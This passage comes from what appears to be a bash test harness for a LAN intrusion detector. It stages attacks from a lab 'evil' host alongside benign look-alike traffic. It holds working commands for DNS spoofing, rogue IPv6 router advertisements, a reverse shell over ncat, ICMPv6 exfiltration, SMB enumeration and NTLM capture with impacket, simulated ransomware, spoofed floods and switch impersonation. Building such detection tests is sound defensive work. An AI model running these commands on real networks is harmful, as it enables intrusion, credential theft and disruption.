        o = srp1(e/b/DHCP(options=[("message-type", "discover"), ("hostname", "phone%d" % i), "end"]), iface="eth0", timeout=3)
        if o is not None and DHCP in o:
            break
    if o is not None and BOOTP in o and o[BOOTP].yiaddr != "0.0.0.0":
        sendp(e/b/DHCP(options=[("message-type", "request"), ("requested_addr", o[BOOTP].yiaddr), ("server_id", "'$NET.1'"), ("hostname", "phone%d" % i), "end"]), iface="eth0")
    time.sleep(0.8)'
	restart_gw_dnsmasq
}

# Session 36 (fix36d): an MLD report flood from one MAC (review 36a
# v6_fake_mld26): thc's atk6-fake_mld26 -l (no pause between reports)
# joining ff05::1:3 for 1 s, tens of thousands of reports to ff02::16.
scn_mld_report_flood_thc() {
	inns evil timeout 1 atk6-fake_mld26 -l eth0 add ff05::1:3 >/dev/null 2>&1 || true
}
# Session 36 (fix36d): TFTP configuration theft (review 36a tftp_theft):
# tftpd-hpa on the NAS holds startup-config and running-config; .66 asks
# it for 12 configuration names with tftp-hpa, 10 answered "File not
# found". brute_force (TFTP file-name guessing) on .66 beside the NAS's
# TFTP note.
scn_tftp_config_guessing() {
	mkdir -p "$tmp/tftpc"
	printf 'hostname sw1\nenable secret 5 $1$abcd$xyz\nsnmp-server community private RW\n' >"$tmp/tftpc/startup-config"
	cp "$tmp/tftpc/startup-config" "$tmp/tftpc/running-config"; chmod -R a+rX "$tmp/tftpc"
	inns nas timeout 30 in.tftpd -L -s "$tmp/tftpc" & local td=$!
	sleep 1
	local f
	for f in startup-config running-config router-confg network-confg sw1-confg cisco.cfg config.text switch.cfg vlan.dat nvram backup.cfg config.bin; do
		(cd "$tmp" && inns evil timeout 5 tftp "$nas" -c get "$f" /dev/null) || true
	done
	kill $td 2>/dev/null; wait $td 2>/dev/null || true
}
# Session 36 (fix36d): bettercap's dns.spoof run alone (review 36a
# bettercap_dns_spoof): the lab's switch floods every frame (a hub, a
# mirror), so .66 sees the PC's queries without ARP spoofing; bettercap
# answers each bank.com query under the gateway's address and MAC with
# an A record for .66, 20 ms after dnsmasq's REFUSED. name_poisoning with
# no culprit MAC (two IP stacks behind one MAC).
scn_bettercap_dns_spoof_alone() {
	(sleep 4; for i in $(seq 1 10); do inns pc getent ahostsv4 "www$i.bank.com" | head -1; sleep 0.5; done) & local q=$!
	(sleep 12; echo q) | inns evil timeout 17 bettercap -iface eth0 -no-colors \
		-eval "set dns.spoof.domains *.bank.com,bank.com; set dns.spoof.address $NET.66; set dns.spoof.all true; dns.spoof on" || true
	wait $q || true
}
# Session 37 (det37b): rogue router advertisements on a LAN with no IPv6
# router (review 36a P5: an IPv4-only office, mitm6's home ground), and
# a router being installed there, which is legitimate.
# A workstation joins (its kernel solicits routers at link-up), then
# atk6-fake_router26 advertises a prefix and a DNS server with lifetime
# 2048 (thc's hop limit 255).
scn_v6_fake_router26_host_alone() {
	inns evil ip link set eth0 down; inns evil ip link set eth0 up
	sleep 3
	inns evil timeout 10 atk6-fake_router26 -A "$ULA:66::/64" -D "$ULA::66" eth0 || true
	inns evil ip addr add "$ULA::66/64" dev eth0 nodad 2>/dev/null || true
}
# A mitm6-like advertisement written with scapy (hop limit 64, lifetime
# 1800, a prefix and itself as DNS server) from a workstation that has
# just leased its address from the gateway's DHCP server (busybox udhcpc).
scn_v6_ra_rdnss_dhcp_client_scapy() {
	inns evil busybox udhcpc -i eth0 -n -q -f -s /bin/true || true
	scapy evil 'll = "fe80::ba27:ebff:fe00:66"
for i in range(5):
    sendp(Ether(src=mac, dst="33:33:00:00:00:01")/IPv6(src=ll, dst="ff02::1", hlim=255)/ICMPv6ND_RA(chlim=64, routerlifetime=1800)/
          ICMPv6NDOptSrcLLAddr(lladdr=mac)/ICMPv6NDOptPrefixInfo(prefix="'$ULA':66::", prefixlen=64, validlifetime=7200, preferredlifetime=3600)/
          ICMPv6NDOptRDNSS(dns=[ll], lifetime=1800), iface="eth0")
    time.sleep(2)'
}
# Benign: PC2 becomes the LAN's first IPv6 router (forwarding on, radvd:
# a prefix, RDNSS and DNSSL every 3-5 s); its link bounces (a router's
# kernel solicits no routers), the PC takes an address from the prefix
# and pings PC2 (PC2's neighbour advertisements carry the Router flag).
# radvd's last advertisements on exit say lifetime 0 with RDNSS lifetime 0.
scn_v6_benign_first_router_radvd() {
	inns pc2 sysctl -qw net.ipv6.conf.all.forwarding=1
	inns pc2 ip link set eth0 down; inns pc2 ip link set eth0 up
	inns pc2 ip addr add "$ULA::11/64" dev eth0 nodad 2>/dev/null || true
	printf 'interface eth0 {\n\tAdvSendAdvert on;\n\tMinRtrAdvInterval 3;\n\tMaxRtrAdvInterval 5;\n\tprefix %s:11::/64 { };\n\tRDNSS %s::11 { };\n\tDNSSL lan { };\n};\n' "$ULA" "$ULA" >"$tmp/radvd.conf"
	inns pc2 radvd -C "$tmp/radvd.conf" -p "$tmp/radvd.pid" -m stderr # forks; its pid file names it
	sleep 4
	inns pc rdisc6 -1 eth0 || true
	sleep 3
	inns pc ping -6 -q -c 5 -i 0.5 "$ULA::11" || true
	sleep 4
	kill "$(cat "$tmp/radvd.pid")" 2>/dev/null || true
	sleep 1
	inns pc ip -6 addr flush dev eth0 scope global dynamic 2>/dev/null || true
	inns pc2 sysctl -qw net.ipv6.conf.all.forwarding=0
}
# ICMPv6 echo tunnel (det37b): a Python raw-socket client on the PC sends
# a 35 kB text file (the GPL) in 480-byte chunks inside echo requests to
# the NAS's ULA (an exfiltration through ping -6's shape); the NAS's
# kernel echoes.
scn_icmp6_tunnel_python() {
	inns pc "$py" -c 'import socket, struct, time
s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
data = open("/usr/share/common-licenses/GPL-3", "rb").read()
for seq in range(60):
    chunk = data[seq * 480:(seq + 1) * 480].ljust(480, b"\0")
    s.sendto(struct.pack("!BBHHH", 128, 0, 0, 0x5137, seq) + chunk, ("'$ULA'::30", 0))
    time.sleep(0.1)'
	sleep 1
}
# Benign ICMPv6: ping -6 -s 1400 (60 rounds), -s 65000 (fragmented), path
# MTU probes of shrinking sizes, neighbour discovery between them.
scn_benign_icmp6_pings() {
	inns pc ping -6 -q -c 60 -i 0.05 -s 1400 "$ULA::30" || true
	inns pc ping -6 -q -c 5 -i 0.3 -s 65000 "$ULA::30" || true
	for sz in 1452 1400 1300 1200 1000 800; do inns pc ping -6 -q -M do -c 2 -i 0.1 -s $sz "$ULA::30" || true; done
	inns pc2 ping -6 -q -c 40 -i 0.05 -s 200 "$ULA::30" || true
	sleep 1
}
# Session 37 (det37b): a reverse shell whose only tell is dash's bare
# prompt "# " (2 bytes): sh +m -i (no job control, so no "can't access
# tty" banner) over ncat --sh-exec, the operator typing commands that
# print nothing (cd, export, a download into a file), each answered by
# the prompt alone.
scn_revshell_dash_bare_prompt() {
	(sleep 1.5; echo 'cd /tmp'; sleep 0.7; echo 'export HISTFILE=/dev/null'; sleep 0.7; echo 'umask 077'; sleep 0.7; echo exit; sleep 1) |
		inns evil timeout 10 ncat -l 4449 >"$tmp/operator.4449" 2>&1 &
	local op=$!
	sleep 0.5
	inns nas timeout 8 ncat "$NET.66" 4449 --sh-exec 'exec sh +m -i 2>&1' || true
	wait $op || true
}
# Session 37 (det37a): SMB null-session enumeration (review 36a
# smb_enum_rpc, enum4linux's first steps): .66 logs on to the NAS's smbd
# anonymously (rpcclient -U '' -N) and lists its users, groups and domain
# (samr), the LSA's domain SID (lsaquery), then cycles RIDs 500-505 and
# 1000-1003 with lookupsids, one connection each as enum4linux does.
# port_scan Medium on .66, the NAS the target.
wait_smbd() { local i; for i in $(seq 50); do inns nas ss -Hltn '( sport = :445 )' | grep -q . && break; sleep 0.2; done; }
kill_smbd() { local p; for p in $(ip netns pids "$P-nas"); do grep -qa smbd /proc/$p/cmdline 2>/dev/null && kill "$p"; done; sleep 0.5; }
scn_smb_null_session_enum() {
	mkdir -p "$tmp/ftproot"; start_smbd; wait_smbd
	inns evil rpcclient -U '' -N "$nas" -c 'srvinfo;enumdomusers;enumdomgroups;querydominfo;lsaquery' || true
	local r; for r in 500 501 502 503 504 505 1000 1001 1002 1003; do
		inns evil rpcclient -U '' -N "$nas" -c "lookupsids S-1-5-21-1004336348-1177238915-682003330-$r" || true
	done
	kill_smbd
}
# RID cycling alone (enum4linux -r): .66 asks the NAS's LSA for the names
# of builtin and domain RIDs, lookupsids on an anonymous session, one
# connection each. port_scan Medium on .66.
scn_smb_rid_cycling() {
	mkdir -p "$tmp/ftproot"; start_smbd; wait_smbd
	local r; for r in 544 545 546 500 501 1000; do
		inns evil rpcclient -U '' -N "$nas" -c "lookupsids S-1-5-32-$r" || true
	done
	kill_smbd
}
# nmap's smb-enum-users and smb-enum-groups against smbd with SMB1 allowed
# (server min protocol NT1): SMB1 SESSION_SETUP_ANDX, anonymous, then
# samr calls in SMB1 named-pipe transactions. port_scan Medium on .66
# beside the NAS's SMBv1 note.
scn_smb1_nmap_enum_users() {
	mkdir -p "$tmp/ftproot"; start_smbd; wait_smbd; kill_smbd
	sed -i 's/^server min protocol = SMB2$/server min protocol = NT1/' "$tmp/smb.conf"
	spawn nas smbd -F -s "$tmp/smb.conf"; wait_smbd
	inns evil nmap -Pn -n -p445 --script smb-enum-users,smb-enum-groups "$nas" || true
	kill_smbd
}
# Benign: SMB users of the NAS. The PC lists its shares with a user
# (smbclient -L -U root%...), a guest lists them without one (smbclient -N
# -L: an anonymous session asking srvsvc only), the user changes his
# password (smbpasswd -r: an anonymous session asking samr for
# ChangePasswordUser3), and pc2 copies files with the user. Nothing.
scn_benign_smb_users() {
	mkdir -p "$tmp/ftproot" "$tmp/backup"; echo report >"$tmp/ftproot/report.txt"; start_smbd; wait_smbd
	inns pc smbclient -L "//$nas" -U 'root%Backup-2026' || true
	inns pc smbclient -N -L "//$nas" || true
	printf 'Backup-2026\nBackup-2027\nBackup-2027\n' | inns pc smbpasswd -r "$nas" -U root -s || true
	inns pc2 smbclient "//$nas/data" -U 'root%Backup-2027' -m SMB3 -c "prompt off; lcd $tmp/backup; mget *" || true
	inns pc rpcclient -U 'root%Backup-2027' "$nas" -c 'srvinfo;netshareenumall;enumdomusers;enumdomgroups' || true
	kill_smbd
}
# Session 41 (det42): SMB share-permission enumeration (review 41 P4).
# Samba's smbd on the NAS with three guest shares (map to guest = bad user:
# any unknown user becomes guest, SessionFlags IS_GUEST), two writable;
# .66 runs smbmap as guest (-R: recursive listing) and then with an empty
# user (anonymous): ADMIN$ and IPC$ tree connects, srvsvc NetShareEnumAll,
# in every share a random directory created and deleted at once, then
# QUERY_DIRECTORY. port_scan Medium on .66, the NAS the target.
start_smbd_guest() { # smbd on the NAS: the guest shares public and scans (writable) and docs
	mkdir -p "$tmp/smb"/{lock,state,cache,private,pid,ncalrpc,binddns} "$tmp/g"/{public/Finance,scans,docs}
	echo invoice >"$tmp/g/public/Finance/invoice-1.xlsx"; echo manual >"$tmp/g/docs/manual.pdf"
	chmod -R a+rwX "$tmp/g"
	start_smbd; wait_smbd; kill_smbd
	sed -i -e 's/^\[data\]$/map to guest = bad user\n[data]/' "$tmp/smb.conf"
	printf '[public]\npath = %s\nguest ok = yes\nread only = no\n[scans]\npath = %s\nguest ok = yes\nread only = no\n[docs]\npath = %s\nguest ok = yes\nread only = yes\n' \
		"$tmp/g/public" "$tmp/g/scans" "$tmp/g/docs" >>"$tmp/smb.conf"
	spawn nas smbd -F -s "$tmp/smb.conf"; wait_smbd
}
scn_smbmap_guest_share_write_test() {
	mkdir -p "$tmp/ftproot"; start_smbd_guest
	inns evil timeout 90 smbmap -H "$nas" -u guest -p '' -R --depth 2 || true
	inns evil timeout 60 smbmap -H "$nas" -u '' -p '' || true
	kill_smbd
}
# Benign: the same guest shares in use. The PC lists them (smbclient -N
# -L), maps public as guest, makes a folder, copies files in, makes a
# scratch folder and removes it at once, lists; pc2 copies a scan into
# scans as guest and reads docs. Nothing above info.
scn_benign_smb_guest_shares() {
	mkdir -p "$tmp/ftproot" "$tmp/up"; start_smbd_guest
	local i; for i in 1 2 3 4 5; do head -c 20000 /dev/urandom >"$tmp/up/report-$i.pdf"; done
	inns pc smbclient -N -L "//$nas" || true
	inns pc smbclient -N "//$nas/public" -c "mkdir Reports; cd Reports; prompt off; lcd $tmp/up; mput report-*; cd ..; mkdir scratch; rmdir scratch; ls" || true
	inns pc2 smbclient -N "//$nas/scans" -c "lcd $tmp/up; put report-1.pdf scan-0001.pdf; ls" || true
	inns pc2 smbclient -N "//$nas/docs" -c "lcd $tmp/up; get manual.pdf; ls" || true
	kill_smbd
}
# Session 37 (det37a): DNS zone transfer attempts (review 36a dig_axfr,
# nmap_dns_zone): the gateway's dnsmasq is authoritative for lan and the
# reverse zone and lets only pc2 (.11) transfer them; .66 asks it for
# lan, the reverse zone and lab.local with dig AXFR, and nmap's
# dns-zone-transfer: all REFUSED (a dig ixfr=1 among them, a secondary's
# refresh in shape, is not counted). port_scan Medium on .66, the
# gateway the target.
restart_gw_auth() { # GW-dnsmasq authoritative for lan, transfers allowed to PEER
	local p; for p in $(ip netns pids "$P-gw"); do grep -qa dnsmasq /proc/$p/cmdline 2>/dev/null && kill "$p"; done; sleep 0.5
	spawn gw dnsmasq -k --no-resolv --no-hosts --addn-hosts="$tmp/hosts" --interface=eth0 --bind-interfaces \
		--dhcp-range=$NET.150,$NET.200,1h --dhcp-option=3,$NET.1 --dhcp-leasefile="$tmp/gw.leases" --address=/example.com/$NET.30 \
		--auth-server=gw.lan,eth0 --auth-zone=lan,$NET.0/24 --auth-peer="$1"
	sleep 1
}
scn_zone_transfer_refused() {
	restart_gw_auth "$NET.11"
	inns evil dig @"$NET.1" lan AXFR || true
	inns evil dig @"$NET.1" 8.88.10.in-addr.arpa AXFR || true
	inns evil dig @"$NET.1" lan IXFR=1 || true
	inns evil dig @"$NET.1" lab.local AXFR || true
	inns evil nmap -Pn -n -p53 --script dns-zone-transfer --script-args dns-zone-transfer.domain=lan "$NET.1" || true
	restart_gw_dnsmasq
}
# The same dnsmasq letting anyone's transfer through (--auth-peer names
# .66, as a server open to all answers any): dig AXFR lan from .66 gets the
# whole zone. port_scan High on .66 (the zone leaked).
scn_zone_transfer_answered() {
	restart_gw_auth "$NET.66"
	inns evil dig @"$NET.1" lan AXFR || true
	restart_gw_dnsmasq
}
# Benign: a secondary DNS server. bind9 on the NAS is primary for corp.lab
# (NOTIFY and transfers to pc2 only, IXFR from differences), bind9 on pc2
# its secondary: the primary NOTIFYs, the secondary asks SOA and AXFRs;
# two dynamic updates (nsupdate on the NAS) raise the serial, each time
# NOTIFY, SOA and an IXFR carrying the secondary's SOA. Nothing.
bind_conf() { # DIR ADDR ZONE-STANZA
	mkdir -p "$1"; chmod 777 "$1"
	printf 'options { directory "%s"; listen-on { %s; }; listen-on-v6 { none; }; pid-file none; recursion no; dnssec-validation no; notify-source %s; transfer-source %s; };\ncontrols { };\n%s\n' "$1" "$2" "$2" "$2" "$3" >"$1/named.conf"
}
corp_zone() { # FILE SERIAL
	printf '$TTL 300\n@ IN SOA ns1.corp.lab. admin.corp.lab. ( %s 60 30 600 60 )\n@ IN NS ns1.corp.lab.\n@ IN NS ns2.corp.lab.\nns1 IN A %s.30\nns2 IN A %s.11\nfs1 IN A %s.30\nprinter IN A %s.40\nhost%s IN A %s.41\n' "$2" "$NET" "$NET" "$NET" "$NET" "$2" "$NET" >"$1"
}
scn_benign_dns_secondary() {
	local d1=$tmp/bindp d2=$tmp/binds
	bind_conf "$d2" "$NET.11" "zone \"corp.lab\" { type secondary; primaries { $NET.30; }; file \"$d2/corp.db\"; };"
	bind_conf "$d1" "$NET.30" "zone \"corp.lab\" { type primary; file \"$d1/corp.db\"; notify explicit; also-notify { $NET.11; }; allow-transfer { $NET.11; }; allow-update { $NET.30; }; };"
	corp_zone "$d1/corp.db" 2026120701
	inns pc2 named -g -n 1 -c "$d2/named.conf" >"$tmp/named2.log" 2>&1 & local n2=$!
	sleep 1
	inns nas named -g -n 1 -c "$d1/named.conf" >"$tmp/named1.log" 2>&1 & local n1=$!
	sleep 4
	local h; for h in pc3 pc4; do
		printf 'server %s\nzone corp.lab\nupdate add %s.corp.lab 300 A %s.42\nsend\n' "$NET.30" "$h" "$NET" | inns nas nsupdate || true
		sleep 4
	done
	inns pc dig @"$NET.30" fs1.corp.lab A +short || true
	kill $n1 $n2; wait $n1 $n2 2>/dev/null || true
	grep -hE 'transfer|notify|Transfer' "$tmp/named1.log" "$tmp/named2.log" | tail -12
}
# Session 37 (fix37b): SMB ransomware and the ordinary shapes beside it
# (review 37a P1), a capture tool's SMB server (P11). start_smbshare: the
# NAS's smbd with the writable guest share "share" (SMB2 and later, not
# encrypted: Samba's default), its Finance folder holding 60 invoices.
start_smbshare() {
	mkdir -p "$tmp/smbw"/{lock,state,cache,private,pid,ncalrpc,binddns} "$tmp/share/Finance" "$tmp/share/Photos"
	local i; for i in $(seq 60); do echo "invoice $i" >"$tmp/share/Finance/invoice-$i.xlsx"; echo "report $i" >"$tmp/share/Finance/report-$i.docx"; done
	chmod -R a+rwX "$tmp/share"
	cat >"$tmp/smbw.conf" <<EOF
[global]
workgroup = LAB
server role = standalone server
interfaces = $nas/24
bind interfaces only = yes
smb ports = 445
disable netbios = yes
server min protocol = SMB2
map to guest = Bad User
lock directory = $tmp/smbw/lock
state directory = $tmp/smbw/state
cache directory = $tmp/smbw/cache
private dir = $tmp/smbw/private
pid directory = $tmp/smbw/pid
ncalrpc dir = $tmp/smbw/ncalrpc
binddns dir = $tmp/smbw/binddns
log file = $tmp/smbw/log
load printers = no
printcap name = /dev/null
disable spoolss = yes
[share]
path = $tmp/share
read only = no
guest ok = yes
force user = root
EOF
	spawn nas smbd -F -s "$tmp/smbw.conf"
	for i in $(seq 50); do inns nas ss -Hltn '( sport = :445 )' | grep -q . && break; sleep 0.2; done
}
stop_smbshare() { local p; for p in $(ip netns pids "$P-nas"); do grep -qa smbw.conf /proc/$p/cmdline 2>/dev/null && kill "$p"; done; true; }
smbshare() { inns pc smbclient "//$nas/share" -N -m SMB3 -s "$tmp/smbw.conf" -c "$1"; }
# Ransomware renaming each file it encrypted in place to one new
# extension: 60 SET_INFO FileRenameInformation in a second, then its note.
scn_smb_ransomware_rename() {
	start_smbshare
	local c="" i; for i in $(seq 60); do c="$c rename Finance\\invoice-$i.xlsx Finance\\invoice-$i.xlsx.crypted;"; done
	smbshare "$c put /etc/hostname Finance\\HOW-TO-DECRYPT.txt" | tail -2
	stop_smbshare
}
# Ransomware writing each encrypted copy under the old name plus its
# extension and deleting the original: read, write, delete, 60 times.
scn_smb_ransomware_copy_delete() {
	start_smbshare
	local c="" i; for i in $(seq 60); do c="$c get Finance\\report-$i.docx $tmp/enc; put $tmp/enc Finance\\report-$i.docx.enc; del Finance\\report-$i.docx;"; done
	smbshare "$c" | tail -2
	stop_smbshare
}
# Office saving 60 documents: each through ~WRD.tmp (written), the old
# document renamed ~WRL.tmp, the new one renamed to the document's name,
# ~WRL.tmp deleted; then a sync client's downloads (photo-N.jpg.part
# renamed photo-N.jpg, rsync's hidden .photo-N.jpg.XXXXXX likewise), a
# bulk rename keeping each extension (IMG_N.JPG to holiday-N.jpg) and a
# backup writing 60 files under their own names: quiet.
scn_benign_smb_office_sync_backup() {
	start_smbshare
	local c="" i; echo doc >"$tmp/doc"
	for i in $(seq 60); do c="$c put $tmp/doc Finance\\~WRD00$i.tmp; rename Finance\\report-$i.docx Finance\\~WRL00$i.tmp; rename Finance\\~WRD00$i.tmp Finance\\report-$i.docx; del Finance\\~WRL00$i.tmp;"; done
	smbshare "$c" | tail -1
	c=""; for i in $(seq 60); do c="$c put $tmp/doc Photos\\photo-$i.jpg.part; rename Photos\\photo-$i.jpg.part Photos\\photo-$i.jpg; put $tmp/doc Photos\\.pic-$i.jpg.a${i}Xq; rename Photos\\.pic-$i.jpg.a${i}Xq Photos\\pic-$i.jpg;"; done
	smbshare "$c" | tail -1
	c=""; for i in $(seq 60); do c="$c put $tmp/doc Photos\\IMG_$i.JPG; rename Photos\\IMG_$i.JPG Photos\\holiday-$i.jpg;"; done
	smbshare "$c" | tail -1
	mkdir -p "$tmp/bk"; for i in $(seq 60); do echo "$i" >"$tmp/bk/file-$i.xlsx"; done
	smbshare "prompt off; lcd $tmp/bk; mkdir Backup; cd Backup; mput *; mput *" | tail -1
	stop_smbshare
}
# A capture tool's SMB server (impacket smbserver.py) on .66; the PC logs
# on to it with a user's password three times: its NTLM challenge is
# 0xaaaaaaaaaaaaaaaa every time. credential_capture High on .66.
scn_rogue_smbserver_impacket() {
	mkdir -p "$tmp/rs"; echo x >"$tmp/rs/readme.txt"
	spawn evil "$py" /usr/share/doc/python3-impacket/examples/smbserver.py -smb2support share "$tmp/rs"
	local i; for i in $(seq 50); do inns evil ss -Hltn '( sport = :445 )' | grep -q . && break; sleep 0.2; done
	for i in 1 2 3; do inns pc timeout 15 smbclient "//$NET.66/share" -U 'LAB/alice%Alice!Pass2026' -c ls || true; sleep 1; done
	local p; for p in $(ip netns pids "$P-evil"); do grep -qa smbserver.py /proc/$p/cmdline 2>/dev/null && kill "$p"; done; true
}
# The same logons to the NAS's Samba (a random challenge each): quiet.
scn_benign_smb_logons_samba() {
	start_smbshare
	local i; for i in 1 2 3; do smbshare ls | tail -1; sleep 1; done
	inns pc timeout 15 smbclient "//$nas/share" -U 'LAB/alice%Alice!Pass2026' -m SMB3 -s "$tmp/smbw.conf" -c ls | tail -1 || true
	stop_smbshare
}
# Session 37 (fix37a): a switching loop (review 37a bridge_loop): a veth
# pair with both ends in the lab's bridge (a patch cable between two ports,
# no spanning tree) for 0.3 s while pc asks once for an absent address; the
# request circles the loop. switching_loop Critical, no culprit MAC.
scn_switching_loop() {
	ip -n "$SW" link add lpa type veth peer name lpb
	ip -n "$SW" link set lpa master br0 up
	ip -n "$SW" link set lpb master br0 up
	inns pc arping -q -c 1 -w 1 -I eth0 "$NET.77" & local a=$!
	sleep 0.3
	ip -n "$SW" link del lpa
	wait $a || true
}
# Session 37 (fix37a): hping3 floods to the broadcast address and to a
# group nobody joined (review 37a bcast_flood, mcast_flood): flood High
# naming .66's MAC, and flood Medium at ~1,500/s to an unjoined group.
scn_bcast_flood_hping3() { inns evil timeout 1 hping3 -q -2 -p 137 -d 200 -i u150 "$NET.255" || true; }
scn_mcast_flood_hping3() { inns evil timeout 3 hping3 -q -2 -p 5004 -d 1200 -i u600 239.255.0.1 || true; }
# Benign (fix37a): a multicast stream to a group pc2 joined (its kernel's
# IGMPv3 report, python's IP_ADD_MEMBERSHIP), ~1,500 datagrams a second of
# 1,200 bytes for 3 s, as an IPTV or camera sender: no event.
scn_benign_mcast_joined() {
	printf 'import socket, struct, time\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.bind(("", 5004))\ns.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, struct.pack("4s4s", socket.inet_aton("239.255.0.2"), socket.inet_aton("%s.11")))\ntime.sleep(6)\n' "$NET" >"$tmp/join.py"
	spawn pc2 "$py" "$tmp/join.py"
	sleep 1
	inns nas timeout 3 hping3 -q -2 -p 5004 -d 1200 -i u600 239.255.0.2 || true
}
# Session 37 (fix37a): SNMP and NTP requests under pc's address from .66
# (review 37a amp_snmp_getbulk, amp_ntp_mode6): hping3 -a forges the
# source, 20 each at 20/s. spoofed_source Medium naming .66 and pc.
scn_amp_spoofed_hping3() {
	inns evil hping3 -q -2 -a "$NET.10" -p 161 -d 40 -c 20 -i u50000 "$nas" || true
	inns evil hping3 -q -2 -a "$NET.10" -p 123 -d 12 -c 20 -i u50000 "$NET.1" || true
}
# Cryptominers (session 37 fix37d, review 37a P10). xmrig is not in Debian:
# python sends xmrig 6.19's own stratum lines (its login, then keepalived)
# and cgminer's stratum v1 (mining.subscribe, mining.authorize) to a pool
# played by ncat -l on an address behind the gateway (203.0.113.7 on the
# gateway's loopback: the LAN sees the PC talk through its router).
pool() { # pool PORT: a listener answering each line with a result
	inns gw ip addr add 203.0.113.7/32 dev lo 2>/dev/null || true
	spawn gw ncat -l -k 203.0.113.7 "$1" -c 'while read -r l; do echo "{\"id\":1,\"jsonrpc\":\"2.0\",\"error\":null,\"result\":{\"status\":\"OK\"}}"; done'
	sleep 1
}
unpool() { local p; for p in $(ip netns pids "$P-gw"); do grep -q ncat /proc/$p/cmdline 2>/dev/null && kill "$p"; done; inns gw ip addr del 203.0.113.7/32 dev lo 2>/dev/null; true; }
scn_cryptominer_xmrig_login() {
	pool 3333
	inns pc "$py" -c 'import socket,json,time
s=socket.create_connection(("203.0.113.7",3333),timeout=5)
s.send((json.dumps({"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A","pass":"x","agent":"XMRig/6.19.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0","algo":["rx/0","cn/r","rx/wow","rx/arq"]}})+"\n").encode())
print(s.recv(4096))
for i in range(4):
    time.sleep(1); s.send((json.dumps({"id":2+i,"jsonrpc":"2.0","method":"keepalived","params":{"id":"0b3c2a"}})+"\n").encode())
s.close()' || true
	unpool
}
scn_cryptominer_stratum_v1() {
	pool 4444
	inns pc "$py" -c 'import socket,time
s=socket.create_connection(("203.0.113.7",4444),timeout=5)
s.send(b"{\"id\": 1, \"method\": \"mining.subscribe\", \"params\": [\"cgminer/4.12.1\"]}\n")
print(s.recv(4096)); time.sleep(0.2)
s.send(b"{\"params\": [\"bc1qexampleworker.rig1\", \"x\"], \"id\": 2, \"method\": \"mining.authorize\"}\n")
print(s.recv(4096)); time.sleep(2); s.close()' || true
	unpool
}
# Benign: JSON lines over TCP that are no miner's: a JSON-RPC "login" of a
# monitoring agent and a remote-control API (method names, agents, any port).
scn_benign_jsonrpc_login() {
	pool 3333
	inns pc "$py" -c 'import socket,json,time
s=socket.create_connection(("203.0.113.7",3333),timeout=5)
for m in ({"id":1,"jsonrpc":"2.0","method":"login","params":{"user":"monitor","password":"x","agent":"ZabbixAgent/6.0.1"}},
          {"id":2,"jsonrpc":"2.0","method":"mining.status","params":[]},
          {"id":3,"jsonrpc":"2.0","method":"subscribe","params":{"events":["mining.subscribe"]},"agent":"Kodi/20.2"}):
    s.send((json.dumps(m)+"\n").encode()); print(s.recv(4096)); time.sleep(0.5)
s.close()' || true
	unpool
}
# LLDP/CDP impersonation (session 37 fix37d, review 37a P9): lldpd sends
# nothing on a veth, so scapy builds the frames (review 37a's): a switch
# (Cisco's OUI, chassis 00:1b:d4:00:00:02, "core-sw1", C2960X) announces
# LLDP and CDP every second; 8 s later .66 (a Raspberry Pi) announces the
# same chassis ID and name. The lab bridge forwards LLDP's group address
# for this (group_fwd_mask: a mirror port shows it).
lldp_py() { cat <<'PY'
import sys, time
from scapy.all import *
from scapy.contrib.lldp import *
from scapy.contrib.cdp import *
conf.verb = 0
def lldp(src, chassis, name, port=b"Gi1/0/24"):
    return Ether(src=src,dst="01:80:c2:00:00:0e",type=0x88cc)/LLDPDUChassisID(subtype=4,id=chassis)/LLDPDUPortID(subtype=5,id=port)/LLDPDUTimeToLive(ttl=120)/LLDPDUSystemName(system_name=name)/LLDPDUSystemDescription(description=b"Cisco IOS Software, C2960X Software (C2960X-UNIVERSALK9-M), Version 15.2(7)E4")/LLDPDUSystemCapabilities(mac_bridge_available=1,mac_bridge_enabled=1,router_available=1)/LLDPDUManagementAddress(management_address_subtype=1,management_address=b"\x0a\x58\x08\x02",interface_numbering_subtype=2,interface_number=1)/LLDPDUEndOfLLDPDU()
def cdp(src, name, addr="10.88.8.2"):
    return Dot3(src=src,dst="01:00:0c:cc:cc:cc")/LLC(dsap=0xaa,ssap=0xaa,ctrl=3)/SNAP(OUI=0x0c,code=0x2000)/CDPv2_HDR(vers=2,ttl=180,msg=[CDPMsgDeviceID(val=name),CDPMsgSoftwareVersion(val=b"Cisco IOS Software, C2960X Software, Version 15.2(7)E4"),CDPMsgPlatform(val=b"cisco WS-C2960X-24PS-L"),CDPMsgPortID(iface=b"GigabitEthernet1/0/24"),CDPMsgCapabilities(cap=0x28),CDPMsgAddr(naddr=1,addr=[CDPAddrRecordIPv4(addr=addr)])])
def run(src, chassis, name, n, addr="10.88.8.2", port=b"Gi1/0/24"):
    for i in range(n):
        sendp(lldp(src, chassis, name, port), iface="eth0"); sendp(cdp(src, name, addr), iface="eth0"); time.sleep(1)
PY
}
lldp_lab() { lldp_py >"$tmp/lldplab.py"; chmod 644 "$tmp/lldplab.py"; ip -n "$SW" link set br0 type bridge group_fwd_mask 0x4000; }
lldp_unlab() { ip -n "$SW" link set br0 type bridge group_fwd_mask 0; }
scn_lldp_cdp_impersonation_scapy() {
	lldp_lab
	inns gw "$py" -c "import sys; sys.path.insert(0,'$tmp'); from lldplab import *; run('00:1b:d4:00:00:02', b'\x00\x1b\xd4\x00\x00\x02', b'core-sw1', 20)" & local sw=$!
	sleep 8
	inns evil "$py" -c "import sys; sys.path.insert(0,'$tmp'); from lldplab import *; run('b8:27:eb:00:00:66', b'\x00\x1b\xd4\x00\x00\x02', b'core-sw1', 10, '10.88.8.66')" || true
	wait $sw || true
	lldp_unlab
}
# Benign: one switch announcing from two ports' MACs (its base MAC's block)
# under one chassis ID and name (a mirror of two of its ports), and two
# unconfigured switches both named "Switch" with their own chassis IDs.
scn_benign_lldp_two_ports_default_names() {
	lldp_lab
	inns gw "$py" -c "import sys; sys.path.insert(0,'$tmp'); from lldplab import *; run('00:1b:d4:00:00:03', b'\x00\x1b\xd4\x00\x00\x02', b'core-sw1', 10)" & local a=$!
